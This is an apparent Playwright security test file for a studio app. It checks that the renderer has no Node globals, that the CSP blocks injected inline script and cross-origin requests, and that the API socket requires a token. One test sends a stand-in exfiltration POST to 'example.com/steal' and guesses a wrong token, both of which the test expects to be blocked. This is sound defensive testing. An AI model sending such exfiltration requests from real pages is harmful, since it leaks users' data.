/**
 * What a page of the studio can reach, checked in the real renderer (web mode, Chromium): no
 * Node globals, no `window.studio` bridge outside Electron, a CSP that blocks injected inline
 * script and requests to other origins, and an API socket that needs the token. (The CSP's
 * eval ban is checked on the policy text in main/app/security.test.ts: code that Playwright
 * evaluates comes through DevTools, which Chromium exempts from the eval check.)
 */
import { expect, openStudio, test } from './helpers';

test('the renderer has no Node: no require, process, module, Buffer or bridge', async ({
  page,
}) => {
  await openStudio(page);
  const globals = await page.evaluate(() => ({
    require: typeof (globalThis as Record<string, unknown>).require,
    process: typeof (globalThis as Record<string, unknown>).process,
    module: typeof (globalThis as Record<string, unknown>).module,
    Buffer: typeof (globalThis as Record<string, unknown>).Buffer,
    dirname: typeof (globalThis as Record<string, unknown>).__dirname,
    studio: typeof (globalThis as Record<string, unknown>).studio,
  }));
  expect(globals).toEqual({
    require: 'undefined',
    process: 'undefined',
    module: 'undefined',
    Buffer: 'undefined',
    dirname: 'undefined',
    // Electron's preload alone defines window.studio; web mode talks to the host's socket.
    studio: 'undefined',
  });
});

test('the CSP blocks injected inline script and requests to other origins', async ({ page }) => {
  const response = await page.goto(process.env.E2E_BASE_URL ?? '');
  expect(response?.headers()['content-security-policy']).toMatch(/script-src 'self'(;|$)/);
  await expect(page.getByTestId('app-info')).toContainText('web');
  const result = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push(e.effectiveDirective),
    );
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true;';
    document.body.append(script);
    let fetchBlocked = false;
    try {
      await fetch('https://example.com/steal', { method: 'POST', body: 'x' });
    } catch {
      fetchBlocked = true;
    }
    await new Promise((r) => setTimeout(r, 100));
    return {
      injected: (window as unknown as { __injected?: boolean }).__injected === true,
      fetchBlocked,
      violations: [...new Set(violations)].sort(),
    };
  });
  expect(result).toEqual({
    injected: false,
    fetchBlocked: true,
    violations: ['connect-src', 'script-src-elem'],
  });
});

test('the page cannot open the API socket without the token', async ({ page }) => {
  await openStudio(page);
  const outcomes = await page.evaluate(async () => {
    const attempt = (query: string) =>
      new Promise<string>((resolve) => {
        const ws = new WebSocket(`ws://${location.host}/api${query}`);
        ws.onopen = () => {
          ws.close();
          resolve('open');
        };
        ws.onerror = () => resolve('refused');
      });
    const token = new URLSearchParams(location.search).get('token') ?? '';
    return {
      none: await attempt(''),
      wrong: await attempt('?token=guess'),
      right: await attempt(`?token=${encodeURIComponent(token)}`),
    };
  });
  expect(outcomes).toEqual({ none: 'refused', wrong: 'refused', right: 'open' });
});
